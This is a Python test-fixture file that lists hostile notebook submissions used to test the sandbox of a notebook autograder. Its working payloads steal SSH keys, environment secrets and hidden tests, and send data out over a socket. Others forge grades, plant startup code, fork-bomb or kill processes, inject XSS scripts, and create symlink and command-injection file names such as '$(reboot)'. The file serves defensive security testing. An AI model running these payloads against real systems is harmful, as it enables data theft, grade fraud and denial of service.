"""Hostile submissions, by what they try. `LOOT`, `PORT` and `MARK` are filled in by the tests.

`proof` says how an attack is seen to succeed: by points that it did not earn, by what it leaves in
the folder LOOT, by a changed file of that name, or as the tests say. What is a `variant_of` another
is not run against stock nbgrader: the other is, and both take the same way.
"""

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import NamedTuple

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output


class Attack(NamedTuple):
    """What a student hands in: answers by grade id, files beside the notebook, or worse."""

    tries: str
    answers: dict[str, str]
    proof: str
    files: Mapping[str, str] = MappingProxyType({})
    variant_of: str = ""
    change: Callable[[NotebookNode], None] | None = None  # of the notebook
    place: Callable[[Path], None] | None = None  # of the folder that is handed in


def double(source: str) -> dict[str, str]:
    return {"double": source}


GRADEBOOK = """
import sqlite3
gradebook = sqlite3.connect("../../../gradebook.db")
"""
IN_A_DAEMON = """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", "MARK"])
    os._exit(0)
os.wait()
"""
ANY = """
class Any(int):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __hash__ = int.__hash__
    __sub__ = __rsub__ = lambda self, other: 0
"""
LOOK = """
import os
from pathlib import Path
def take(name, text):
    print(text)
    Path("LOOT").mkdir(exist_ok=True)
    Path("LOOT", name).write_text(text)
"""
SCRIPT = "<script>document.title = 'taken'</script>"

READ: dict[str, Attack] = {
    "read_hidden_tests": Attack(
        "The source of the module, hidden tests and all.",
        double(
            LOOK + "take('hidden', Path('../../../source/01_target/01_target.ipynb').read_text())"
        ),
        "loot",
    ),
    "read_own_hidden_tests": Attack(
        "Its own notebook, into which autograding has put the hidden tests.",
        double(
            "import json, re\n"
            "text = open('01_target.ipynb').read()\n"
            "table = dict(re.findall(r'double\\((\\d+)\\) == (\\d+)', text))\n"
            "def double(x): return int(table[str(x)])"
        ),
        "points",
    ),
    "read_solution": Attack(
        "The right number, from the source's answer.",
        {
            "number": "import re\n"
            "text = open('../../../source/01_target/01_target.ipynb').read()\n"
            "number = int(re.search(r'number = (\\d+)', text)[1])"
        },
        "points",
    ),
    "read_gradebook": Attack(
        "The hidden tests that the gradebook keeps.",
        double(
            LOOK
            + GRADEBOOK
            + "take('cells', str([*gradebook.execute('select source from source_cell')]))"
        ),
        "loot",
    ),
    "read_others_work": Attack(
        "The best student's answers.",
        double(
            LOOK
            + "take('ann', Path('../../../submitted/ann/01_target/01_target.ipynb').read_text())"
        ),
        "loot",
    ),
    "read_environment": Attack(
        "Passwords in variables.",
        double(LOOK + "take('token', os.environ['SECRET_TOKEN'])"),
        "loot",
    ),
    "read_environment_of_parents": Attack(
        "The same, of every process that can be seen.",
        double(
            LOOK + "found = ''\n"
            "for path in Path('/proc').glob('[0-9]*/environ'):\n"
            "    try:\n"
            "        found += path.read_text(errors='replace')\n"
            "    except OSError:\n"
            "        pass\n"
            "take('environ', found)"
        ),
        "loot",
    ),
    "read_home": Attack(
        "A private key.",
        double(LOOK + "take('key', Path('~/.ssh/id').expanduser().read_text())"),
        "loot",
    ),
    "read_by_shell": Attack(
        "The same by a cell magic.",
        double("%%bash\nmkdir -p LOOT && cat ~/.ssh/id | tee LOOT/shell"),
        "loot",
    ),
    "read_by_exclamation_mark": Attack(
        "The same by a line of shell.",
        double("found = !cat ~/.ssh/id; mkdir -p LOOT; cp ~/.ssh/id LOOT/line\nprint(found)"),
        "loot",
        variant_of="read_by_shell",
    ),
    "read_by_run": Attack(
        "The same by a script of the submission, run by a magic.",
        double("%run ./look.py"),
        "loot",
        files={"look.py": LOOK + "take('run', Path('~/.ssh/id').expanduser().read_text())"},
        variant_of="read_home",
    ),
    "read_a_key_of_the_session": Attack(
        "What the kernel keeps for all that runs in a session, and for the submissions after it.",
        double(
            LOOK + "import ctypes\n"
            "libc, room = ctypes.CDLL(None), ctypes.create_string_buffer(99)\n"
            "print(libc.syscall(248, b'user', b'note', b'note_6151', 9, -3))\n"
            "found = libc.syscall(249, b'user', b'note', None, 0)\n"
            "if found > 0 and libc.syscall(250, 11, found, room, 99) > 0:\n"
            "    take('key', 'no limit')"
        ),
        "loot",
        variant_of="read_home",
    ),
    "type_what_hidden_tests_give": Attack(
        "The same in names of types, in shapes, and in a number that a later test reads.",
        double(
            "import torch\n"
            "def double(x):\n"
            "    global number\n"
            "    number = x\n"
            "    made = type(f'given {x}', (Exception,), {})\n"
            "    if x > 100: raise made(x)\n"
            "    return [made(), torch.zeros(1, 0, x)]"
        ),
        "feedback",
        variant_of="keep_what_hidden_tests_give",
    ),
    "keep_what_hidden_tests_give": Attack(
        "The arguments of hidden tests, printed, raised and kept for a last cell.",
        double(
            "seen = []\n"
            "def double(x):\n"
            "    seen.append(x)\n"
            "    print('given', x)\n"
            "    if x > 100: raise ValueError(f'given {x}')\n"
            "    return 2 * x"
        ),
        "feedback",
        change=lambda notebook: notebook.cells.append(new_code_cell("print('kept', seen)")),
    ),
}

WRITE: dict[str, Attack] = {
    "write_gradebook": Attack(
        "Its own points, by hand, as an instructor would.",
        double(
            GRADEBOOK + "gradebook.execute('update grade set manual_score = 495')\n"
            "gradebook.commit()"
        ),
        "points",
    ),
    "write_source": Attack(
        "A file that each later student gets.",
        double("open('../../../source/01_target/words.txt', 'w').write('poison')"),
        "words.txt",
    ),
    "write_release": Attack(
        "The notebook that students fetch.",
        double("open('../../../release/01_target/01_target.ipynb', 'a').write(' ')"),
        "release",
    ),
    "write_others_work": Attack(
        "Another student's submission, emptied.",
        double("open('../../../submitted/zoe/01_target/notes.txt', 'w').write('poison')"),
        "zoe",
    ),
    "write_packages": Attack(
        "A module that graders import.",
        double("import fractures\nopen(fractures.__file__, 'w').write('poison = True')"),
        "fractures.py",
    ),
    "write_profile": Attack(
        "Code that runs at the start of each later kernel.",
        double(
            "import pathlib\n"
            "folder = pathlib.Path(get_ipython().profile_dir.startup_dir)\n"
            "folder.joinpath('00_poison.py').write_text('poison = True')"
        ),
        "startup",
    ),
    "write_home": Attack(
        "A line in the shell's start-up file.",
        double("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('poison')"),
        ".bashrc",
    ),
    "leave_a_daemon": Attack("A process that outlives grading.", double(IN_A_DAEMON), "process"),
    "leave_many_daemons": Attack(
        "A hundred of them.",
        double(
            f"for _ in range(100):\n    {IN_A_DAEMON.strip().replace(chr(10), chr(10) + '    ')}"
        ),
        "process",
        variant_of="leave_a_daemon",
    ),
    "use_the_network": Attack(
        "A secret, sent away.",
        double(
            "import socket\n"
            "with socket.create_connection(('127.0.0.1', PORT), 5) as out:\n"
            "    out.sendall(b'sent')"
        ),
        "network",
    ),
    "use_the_network_later": Attack(
        "The same from a thread, while tests run.",
        double(
            "import socket, threading, time\n"
            "def send():\n"
            "    while True:\n"
            "        time.sleep(0.1)\n"
            "        socket.create_connection(('127.0.0.1', PORT), 1).sendall(b'sent')\n"
            "threading.Thread(target=send, daemon=True).start()"
        ),
        "network",
        variant_of="use_the_network",
    ),
}

HARM: dict[str, Attack] = {
    # These two bomb only where our limits are, and else say that there are none.
    "fork_bomb": Attack(
        "As many processes as there may be.",
        double(
            "import os, resource, time\n"
            "if resource.getrlimit(resource.RLIMIT_NPROC)[0] == PROCESSES:\n"
            "    while True: os.fork()\n" + LOOK + "take('processes', 'no limit')"
        ),
        "loot",
    ),
    "memory_bomb": Attack(
        "All memory.",
        double(
            "import os, resource\n"
            "if resource.getrlimit(resource.RLIMIT_AS)[0] == ADDRESSES:\n"
            "    held = []\n"
            "    while True: held.append(bytearray(b'x') * 2**27)\n"
            + LOOK
            + "take('memory', 'no limit')"
        ),
        "loot",
    ),
    "memory_bomb_of_files": Attack(
        "All memory, in files that no process maps, and in buffers.",
        double(
            LOOK + "import ctypes, socket\n"
            "libc, held = ctypes.CDLL(None), []\n"
            "if libc.shmget(0, 2**20, 0o600) >= 0: take('shared', 'no limit')\n"
            "try:\n"
            "    held.append(os.memfd_create('x'))\n"
            "    take('memory', 'no limit')\n"
            "except OSError as error: print(error)\n"
            "for i in range(10**9):\n"
            "    try: open(f'/tmp/{i}', 'w').close()\n"
            "    except OSError as error: print(error); break\n"
        ),
        "loot",
        variant_of="memory_bomb",
    ),
    "memory_bomb_in_a_namespace": Attack(
        "All memory, in a file system of a namespace of its own.",
        double(
            LOOK + "import ctypes\n"
            "if ctypes.CDLL(None).unshare(0x10000000) == 0: take('namespace', 'no limit')"
        ),
        "loot",
        variant_of="memory_bomb",
    ),
    "memory_bomb_of_many": Attack(
        "All memory, by processes that each take a little.",
        double("import os\nwhile os.fork() or True: held = bytearray(b'x') * 2**26"),
        "loot",
        variant_of="memory_bomb",
    ),
    "disk_bomb": Attack(
        "All disks: nothing stops the file at 200 MB.",
        double(
            "import os\n"
            "for folder in ('LOOT', '/tmp', '/dev/shm', '.'):\n"
            "    try:\n"
            "        os.makedirs(folder, exist_ok=True)\n"
            "        with open(f'{folder}/large', 'wb') as file:\n"
            "            for _ in range(200): file.write(bytes(2**20))\n"
            "        break\n"
            "    except OSError as error: print(error)"
        ),
        "disk",
    ),
    "flood_of_output": Attack(
        "20 MB on one line, to stop whoever opens it.",
        double("print('x' * 20 * 2**20)"),
        "large notebook",
    ),
    "endless_loop": Attack(
        "A loop that ignores interrupts.",
        double(
            "import signal\n"
            "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n"
            "    try:\n"
            "        while True: pass\n"
            "    except BaseException: pass"
        ),
        "ungraded",
    ),
    "endless_call": Attack(
        "A function that never returns.",
        double("import time\ndef double(x):\n    while True: time.sleep(1)"),
        "ungraded",
        variant_of="endless_loop",
    ),
    "leave_at_once": Attack("No kernel.", double("import os\nos._exit(0)"), "ungraded"),
    "leave_when_called": Attack(
        "No kernel when a test calls.",
        double("import os\ndef double(x): os._exit(0)"),
        "ungraded",
        variant_of="leave_at_once",
    ),
    "deep_data": Attack(
        "A list in a list, a hundred thousand times.",
        double("value = []\nfor _ in range(100_000): value = [value]\ndef double(x): return value"),
        "ungraded",
        variant_of="leave_at_once",
    ),
    "many_axes": Attack(
        "A tensor whose axes the C++ of a grader recurses over until it crashes.",
        double("import torch\ndef double(x): return torch.zeros([1] * 100_000)"),
        "ungraded",
        variant_of="leave_at_once",
    ),
    "large_value": Attack(
        "Numbers that take a test all memory, or for ever, to work with.",
        double("def double(x): return [2**62, 10**300, float('1e308'), range(2**62)]")
        | {"halve": "def halve(x): return [[[]] * 999] * 999", "number": "number = 2**62"},
        "ungraded",
        variant_of="leave_at_once",
    ),
    "no_parser_reads_it": Attack(
        "A sum that Python's parser refuses, with an error that nobody expects.",
        {"double": "1" + "+1" * 50_000},
        "stopped",
        change=lambda notebook: notebook.cells.insert(0, new_code_cell("(" * 5_000)),
        variant_of="forged_schema",
    ),
    "half_a_character": Attack(
        "Text that no file can hold.",
        double("print('\\ud800')\ndef double(x): raise ValueError('\\ud800')"),
        "ungraded",
        variant_of="flood_of_output",
        change=lambda notebook: notebook.cells.append(new_markdown_cell("\ud800")),
    ),
    "hostile_str": Attack(
        "An exception that ends the process when it is shown.",
        double(
            "import os\n"
            "class Wrong(Exception):\n"
            "    def __str__(self): os._exit(0)\n"
            "def double(x): raise Wrong"
        ),
        "ungraded",
        variant_of="leave_at_once",
    ),
    "stop_everybody": Attack(
        "The end of the grader, and of all that come after.",
        double("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
        "stopped",
    ),
    "stop_every_process": Attack(
        "The end of all processes of this user.",
        double("import os, signal\nos.kill(-1, signal.SIGKILL)"),
        "stopped",
        variant_of="stop_everybody",
    ),
}

POINTS: dict[str, Attack] = {
    "always_equal": Attack(
        "A number that equals everything.",
        double(ANY + "def double(x): return Any()") | {"number": ANY + "number = Any()"},
        "points",
    ),
    "no_asserts": Attack(
        "Asserts taken out of each later cell.",
        double(
            "import ast\n"
            "class NoAsserts(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(NoAsserts())"
        ),
        "points",
    ),
    "no_asserts_in_text": Attack(
        "The same on a cell's text.",
        double(
            "get_ipython().input_transformers_post.append(\n"
            "    lambda lines: [line.replace('assert', '0 and') for line in lines])"
        ),
        "points",
        variant_of="no_asserts",
    ),
    "replaced_helper": Attack(
        "The test's own helper, of another kind.",
        double("def near(*args): return True\ndef double(x): return None"),
        "points",
    ),
    "replaced_builtin": Attack(
        "`abs` and `min` for all modules.",
        {"number": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.min = max\nnumber = 0"},
        "points",
    ),
    "replaced_library": Attack(
        "A library's function that the test uses.",
        {"number": "import math\nmath.isclose = lambda *args, **kwargs: True\nnumber = 0"},
        "points",
    ),
    "file_named_like_a_module": Attack(
        "The same by a file beside the notebook.",
        {"number": "number = 0"},
        "points",
        files={"colorsys.py": "def rgb_to_hsv(*args): return 1, 1, 1"},
    ),
    "files_named_like_ours": Attack(
        "Files of the names that a grader might load.",
        {},
        "points",
        files={
            name: "import os\nos._exit(0)"
            for name in (
                "torch.py",
                "sitecustomize.py",
                "usercustomize.py",
                "conftest.py",
                "nbgrader_config.py",
                "IPython.py",
                "json.py",
                "course_utils/__init__.py",
                "course_utils/grading/worker.py",
            )
        },
        variant_of="file_named_like_a_module",
    ),
    "callers_frame": Attack(
        "The test's points, from the function that it calls.",
        double(
            "import sys\n"
            "def double(x):\n"
            "    frame = sys._getframe()\n"
            "    while frame:\n"
            "        frame.f_globals['points'] = 2\n"
            "        frame = frame.f_back"
        ),
        "points",
    ),
    "every_dictionary": Attack(
        "The same, by walking the memory.",
        double(
            "import gc\n"
            "def double(x):\n"
            "    for found in gc.get_objects():\n"
            "        if isinstance(found, dict) and 'points' in found: found['points'] = 2"
        ),
        "points",
    ),
    "forged_reply": Attack(
        "The same by writing into every pipe.",
        double(
            "import json, os, struct\n"
            "def double(x):\n"
            "    data = json.dumps({'value': True, 'args': [], 'points': 2}).encode()\n"
            "    for fd in range(3, 30):\n"
            "        try: os.write(fd, struct.pack('>I', len(data)) + data)\n"
            "        except OSError: pass"
        ),
        "points",
        variant_of="callers_frame",
    ),
    "end_of_the_loop": Attack(
        "StopIteration, which ends the test's loop over answers before its first check.",
        {"halve": "def halve(x): raise StopIteration"},
        "points",
    ),
    "own_helper_first": Attack(
        "The cell that defines the test's helper, moved to the end.",
        {"double": "def near(*args): return True\ndef double(x): return None"},
        "points",
        change=lambda notebook: notebook.cells.append(notebook.cells.pop(0)),
    ),
    "answers_of_a_pickle": Attack(
        "An object that acts when it is unpacked.",
        double(
            "class Evil:\n"
            "    def __reduce__(self): return (exec, ('points = 2',))\n"
            "def double(x): return Evil()"
        ),
        "points",
        variant_of="always_equal",
    ),
    "not_a_number": Attack(
        "A NaN, to which no comparison holds.",
        {"number": "number = float('nan')"} | double("def double(x): return float('nan')"),
        "points",
        variant_of="always_equal",
    ),
    "printed_points": Attack(
        "Points, printed and returned as text.",
        double("def double(x):\n    print(2.0)\n    return '2.0'"),
        "points",
        variant_of="callers_frame",
    ),
}


def forged(meta: dict) -> Callable[[NotebookNode], None]:
    """All quiz cells of the notebook get these metadata."""

    def change(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata.nbgrader.update(meta)

    return change


def copied(notebook: NotebookNode) -> None:
    notebook.cells += [cell.copy() for cell in notebook.cells if "nbgrader" in cell.metadata]


def another_kernel(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "evil", "display_name": "Evil", "language": "bash"}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}}


def edited(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("locked"):
            cell.source = "float(2)"


def retyped(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def with_scripts(notebook: NotebookNode) -> None:
    show = f"from IPython.display import HTML, Javascript\ndisplay(HTML({SCRIPT!r}))"
    notebook.cells += [
        new_code_cell(show, outputs=[new_output("display_data", data={"text/html": SCRIPT})]),
        new_code_cell(f"print({SCRIPT!r})\nprint('\\x1b[31m\\x1b]0;taken\\x07')"),
        new_code_cell(f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"),
        new_markdown_cell(SCRIPT),
        new_markdown_cell("<img src=x onerror=\"document.title = 'taken'\">"),
        new_markdown_cell("<svg onload=\"document.title = 'taken'\"></svg>"),
        new_markdown_cell("<iframe srcdoc=\"<script>parent.document.title = 'taken'</script>\">"),
        new_markdown_cell("[a link](javascript:document.title='taken')"),
        new_markdown_cell(
            "![a picture](attachment:a.svg)",
            attachments={"a.svg": {"image/svg+xml": "<svg onload=\"document.title = 'taken'\"/>"}},
        ),
    ]
    notebook.cells[-1].metadata["tags"] = ['"><script>document.title = "taken"</script>']


CELLS: dict[str, Attack] = {
    "forged_schema": Attack(
        "Metadata of a version to come, which stops the whole run.",
        {},
        "stopped",
        change=forged({"schema_version": 99}),
    ),
    "copied_grade_ids": Attack(
        "Each quiz cell twice.", {}, "stopped", change=copied, variant_of="forged_schema"
    ),
    "forged_points": Attack(
        "A hundred points a cell.",
        {},
        "points",
        change=forged({"points": 100, "max_score": 100}),
        variant_of="write_gradebook",
    ),
    "forged_ids": Attack(
        "Grade ids that are no text.",
        {},
        "stopped",
        change=forged({"grade_id": ["double_any"]}),
        variant_of="forged_schema",
    ),
    "forged_locks": Attack(
        "An answer that says it is a set-up cell of ours.",
        {"double": "points = 2\ndef near(*args): return True"},
        "points",
        change=forged({"locked": True, "solution": False, "grade": False}),
        variant_of="replaced_helper",
    ),
    "own_test": Attack(
        "A test cell of its own with a hundred points.",
        {},
        "points",
        change=lambda notebook: notebook.cells.append(
            new_code_cell(
                "float(100)",
                metadata={
                    "nbgrader": {
                        "grade": True,
                        "grade_id": "mine",
                        "locked": True,
                        "points": 100,
                        "schema_version": 3,
                        "solution": False,
                        "task": False,
                    }
                },
            )
        ),
        variant_of="write_gradebook",
    ),
    "edited_locked_cells": Attack(
        "Tests that give everything.", {}, "points", change=edited, variant_of="replaced_helper"
    ),
    "tests_turned_to_text": Attack(
        "Tests that do not run.", {}, "points", change=retyped, variant_of="no_asserts"
    ),
    "another_kernel": Attack(
        "A kernel of its own.", {}, "points", change=another_kernel, variant_of="replaced_library"
    ),
    "script_in_outputs": Attack(
        "A script in the page of whoever looks.", {}, "script", change=with_scripts
    ),
}


def link(name: str, target: str) -> Callable[[Path], None]:
    return lambda folder: folder.joinpath(name).symlink_to(target)


def link_notebook(folder: Path) -> None:
    notebook = folder / "01_target.ipynb"
    notebook.unlink()
    notebook.symlink_to("../../../submitted/ann/01_target/01_target.ipynb")


def pipe(folder: Path) -> None:
    import os

    os.mkfifo(folder / "pipe")


def odd_name(name: bytes) -> Callable[[Path], None]:
    import os

    return lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("odd")


# Each of these is refused as a whole.
FOLDERS: dict[str, Attack] = {
    "link_to_a_key": Attack(
        "The instructor's key, copied into the graded folder and printed.",
        double("print(open('key.txt').read())"),
        "key",
        place=lambda folder: folder.joinpath("key.txt").symlink_to(
            folder.parents[3] / "home" / ".ssh" / "id"
        ),
    ),
    "link_to_the_source": Attack(
        "The module's source, by a link from deep inside.",
        {},
        "key",
        place=lambda folder: (
            (folder / "a" / "b").mkdir(parents=True)
            or (folder / "a" / "b" / "c").symlink_to("../../../../../source")
        ),
        variant_of="link_to_a_key",
    ),
    "link_without_end": Attack(
        "A disk full of zeros, copied.",
        {},
        "key",
        place=link("zeros", "/dev/zero"),
        variant_of="link_to_a_key",
    ),
    "notebook_is_a_link": Attack(
        "Another's notebook as one's own.", {}, "points", place=link_notebook
    ),
    "link_in_a_circle": Attack(
        "A folder in itself.", {}, "key", place=link("again", "."), variant_of="link_to_a_key"
    ),
    "named_pipe": Attack(
        "A file that is never read to its end.", {}, "key", place=pipe, variant_of="link_to_a_key"
    ),
    "nested_folders": Attack(
        "Folders in each other, until whoever walks them fails.",
        {},
        "stopped",
        place=lambda folder: (folder / "/".join("d" * 300)).mkdir(parents=True),
        variant_of="forged_schema",
    ),
    "name_that_is_no_text": Attack(
        "A name that stops whoever prints it.",
        {},
        "stopped",
        place=odd_name(b"\xff\xfe"),
        variant_of="link_to_a_key",
    ),
    "name_of_two_lines": Attack(
        "A name that forges a line of the log.",
        {},
        "stopped",
        place=odd_name(b"a\nGraded ann 100"),
        variant_of="link_to_a_key",
    ),
    "name_of_another_system": Attack(
        "A name that climbs on Windows.",
        {},
        "stopped",
        place=odd_name(b"..\\..\\a.py"),
        variant_of="link_to_a_key",
    ),
}

# These are graded as if nothing were there.
ODD: dict[str, Attack] = {
    "name_of_an_option": Attack(
        "Names that a command would take for options.",
        {},
        "stopped",
        place=lambda folder: [
            folder.joinpath(name).write_text("odd") for name in ("-rf", "--help", "$(reboot)", "*")
        ],
        variant_of="link_to_a_key",
    ),
    "very_long_name": Attack(
        "The longest names there are, deep down.",
        {},
        "stopped",
        place=lambda folder: (folder / ("d" * 200) / ("e" * 200) / ("f" * 200)).mkdir(parents=True),
        variant_of="link_to_a_key",
    ),
    "a_second_notebook": Attack(
        "A notebook that is no part of the module.",
        {},
        "stopped",
        place=lambda folder: folder.joinpath("other.ipynb").write_text(json.dumps({"cells": 1})),
        variant_of="forged_schema",
    ),
}
